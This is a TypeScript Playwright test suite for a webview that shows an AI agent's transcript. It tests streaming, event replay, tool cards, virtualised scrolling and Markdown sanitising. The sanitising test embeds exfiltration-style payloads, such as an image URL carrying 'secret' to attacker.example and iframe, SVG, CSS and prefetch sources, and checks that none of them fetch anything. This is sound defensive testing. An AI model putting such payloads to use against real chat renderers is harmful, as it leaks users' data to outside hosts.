import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import type { SessionEvent, SessionEventBody } from '../../src/shared/events';
import type { TranscriptRecord } from '../../src/shared/transcript';
import { launch, openWebview, opened, snapshot, snapshotMessage, type WebviewPage } from './harness';

let browser: Browser;
void before(async () => { browser = await launch(); });
void after(async () => { await browser?.close(); });

function ev(seq: number, body: SessionEventBody): SessionEvent {
  return { ...body, seq, ts: seq, sessionId: 'a' } as SessionEvent;
}

async function openWith(entries: TranscriptRecord[], lastSeq = 10, hasMore = false): Promise<WebviewPage> {
  const w = await openWebview(browser);
  const s = snapshot('a', { lastSeq });
  await w.push(snapshotMessage([s], [opened(s, entries, hasMore)], 'a'));
  await w.page.getByRole('log', { name: 'Transcript' }).waitFor();
  return w;
}

void describe('transcript', () => {
  void test('streaming appends deltas to one message element, then renders Markdown once completed', async () => {
    const w = await openWith([{ kind: 'user', key: 'u0', text: 'earlier', seq: 9 }]);
    await w.push({ kind: 'event', event: ev(11, { type: 'turn.started', turnId: 't1', promptId: 'p1', messageId: 'u1', text: 'hi' }) });
    await w.push({ kind: 'event', event: ev(12, { type: 'message.started', turnId: 't1', messageId: 'm1', round: 1 }) });
    const msg = w.page.locator('[data-message-id="m1"]');
    await msg.waitFor();
    // Tag the element and the earlier rows: a re-render would replace or touch them.
    await msg.evaluate((el) => { (el as unknown as { __tag: number }).__tag = 42; });
    await w.page.locator('.row[data-key="u0"]').evaluate((el) => { (el as unknown as { __tag: number }).__tag = 7; });
    let seq = 12;
    const parts = ['Hello', ', ', 'wor', 'ld', ' **bold**'];
    for (const text of parts) await w.push({ kind: 'event', event: ev(++seq, { type: 'message.delta', messageId: 'm1', kind: 'text', text }) });
    assert.equal(await msg.locator('as-streaming-text[data-kind="text"]').textContent(), parts.join(''));
    assert.equal(await msg.evaluate((el) => (el as unknown as { __tag?: number }).__tag), 42, 'same element throughout the stream');
    assert.equal(await w.page.locator('.row[data-key="u0"]').evaluate((el) => (el as unknown as { __tag?: number }).__tag), 7);
    assert.equal(await w.page.locator('[data-message-id]').count(), 1);
    await w.push({ kind: 'event', event: ev(++seq, { type: 'message.completed', turnId: 't1', messageId: 'm1', content: [{ type: 'text', text: parts.join('') }], stopReason: 'end_turn' }) });
    await msg.locator('strong').waitFor();
    assert.equal(await msg.locator('strong').textContent(), 'bold');
    await w.page.close();
  });

  void test('a seq gap triggers events.since replay; the replayed events are folded in order', async () => {
    const w = await openWith([]);
    await w.push({ kind: 'event', event: ev(13, { type: 'warning', code: 'x', message: 'third' }) });
    const since = await w.waitForRequest('events.since');
    assert.deepEqual(since.params, { sessionId: 'a', afterSeq: 10 });
    await w.reply(since.id, { events: [ev(11, { type: 'warning', code: 'x', message: 'first' }), ev(12, { type: 'warning', code: 'x', message: 'second' })] });
    await w.page.getByText('third').waitFor();
    assert.deepEqual(await w.page.locator('.marker').allTextContents(), ['first', 'second', 'third']);
    await w.page.close();
  });

  void test('tool card shows args, result, duration and the rule that allowed it; failure marker shows the hint', async () => {
    const w = await openWith([]);
    let seq = 10;
    await w.push({ kind: 'event', event: ev(++seq, { type: 'message.completed', turnId: 't', messageId: 'm1', content: [{ type: 'tool_call', id: 'c1', name: 'read_file', args: { path: 'src/a.ts' } }], stopReason: 'tool_use' }) });
    await w.push({ kind: 'event', event: ev(++seq, { type: 'tool.requested', turnId: 't', callId: 'c1', name: 'read_file', args: { path: 'src/a.ts' } }) });
    await w.push({ kind: 'event', event: ev(++seq, { type: 'tool.started', callId: 'c1', permission: { decision: 'allow', source: 'mode auto-edit' } }) });
    await w.push({ kind: 'event', event: ev(++seq, { type: 'tool.output', callId: 'c1', chunk: 'partial…' }) });
    await w.push({ kind: 'event', event: ev(++seq, { type: 'tool.completed', turnId: 't', callId: 'c1', messageId: 'tm1', name: 'read_file', content: 'export const a = 1;', isError: false, durationMs: 1234, permission: { decision: 'allow', source: 'mode auto-edit' } }) });
    await w.push({ kind: 'event', event: ev(++seq, { type: 'turn.failed', turnId: 't', error: { code: 'rate_limited', message: 'Too many requests', retryable: true, hint: 'Wait a minute or switch model' } }) });
    const card = w.page.locator('as-tool-card');
    await card.locator('summary').click();
    const text = await card.evaluate((el) => el.shadowRoot?.textContent ?? '');
    for (const part of ['read_file', 'src/a.ts', 'export const a = 1;', '1.2 s', 'Allowed by: mode auto-edit']) assert.ok(text.includes(part), `card shows ${part}: ${text}`);
    assert.match((await w.page.locator('.marker[data-variant="failed"]').textContent()) ?? '', /Too many requests[\s\S]*Wait a minute/);
    await w.page.close();
  });

  void test('sanitising: remote images, iframes, raw HTML and links fetch nothing; a click asks the host', async () => {
    const md = [
      '![](https://attacker.example/?q=secret)',
      '<img src="https://attacker.example/raw.png"> <iframe src="https://attacker.example/frame"></iframe>',
      '<div style="background:url(https://attacker.example/bg)">x</div> <video poster="https://attacker.example/p.png"></video>',
      '<svg><image href="https://attacker.example/svg.png"/></svg> <link rel="prefetch" href="https://attacker.example/pf">',
      '[docs](https://example.com/docs) and <a href="https://attacker.example/raw-link">raw</a>',
      '```js\nconst x = 1;\n```',
    ].join('\n\n');
    const w = await openWith([{ kind: 'assistant', key: 'm1', text: md, thinking: '', streaming: false, seq: 10 }]);
    const msg = w.page.locator('[data-message-id="m1"]');
    await msg.waitFor();
    await w.page.waitForTimeout(300); // give any (wrongly) started fetch time to show up
    assert.deepEqual(w.external, [], 'no network request at all');
    assert.equal(await msg.locator('img, iframe, video, svg, link, [style], [src], [href]').count(), 0);
    assert.match((await msg.textContent()) ?? '', /\[image: no description\]/);
    await msg.getByRole('link', { name: 'docs' }).click();
    const link = await w.waitForRequest('links.open');
    assert.deepEqual(link.params, { href: 'https://example.com/docs', sessionId: 'a' });
    assert.equal(w.page.url(), 'http://webview.test/', 'the webview did not navigate');
    assert.equal(await msg.getByRole('button', { name: 'Copy code' }).count(), 1);
    assert.deepEqual(w.external, []);
    assert.deepEqual(await w.cspViolations(), []);
    await w.page.close();
  });

  void test('virtualisation: 5,000 messages keep few rows in the DOM; scrolling reveals others', async () => {
    const entries = Array.from({ length: 5000 }, (_, i): TranscriptRecord => (i % 2 === 0
      ? { kind: 'user', key: `u${i}`, text: `question ${i}`, seq: i + 1 }
      : { kind: 'assistant', key: `m${i}`, text: `answer **${i}**`, thinking: '', streaming: false, seq: i + 1 }));
    const t0 = Date.now();
    const w = await openWith(entries, 5000);
    await w.page.locator('.row[data-key="m4999"]').waitFor();
    const ms = Date.now() - t0;
    const count = await w.page.locator('.row').count();
    assert.ok(count > 5 && count <= 100, `rows in DOM: ${count}`);
    assert.equal(await w.page.locator('.row[data-key="u0"]').count(), 0);
    const scroller = w.page.getByRole('log', { name: 'Transcript' });
    await scroller.evaluate((el) => { el.scrollTop = 0; });
    await w.page.locator('.row[data-key="u0"]').waitFor();
    assert.equal(await w.page.locator('.row[data-key="m4999"]').count(), 0);
    await scroller.evaluate((el) => { el.scrollTop = el.scrollHeight / 2; });
    await w.page.waitForFunction(() => true);
    await w.page.locator('.row[data-key^="u2"], .row[data-key^="m2"]').first().waitFor();
    assert.ok((await w.page.locator('.row').count()) <= 100);
    assert.deepEqual(await w.cspViolations(), [], 'spacers are sized through CSSOM, not inline style attributes');
    console.log(`# 5000 messages: first paint ${ms} ms, ${count} rows in the DOM`);
    await w.page.close();
  });
});
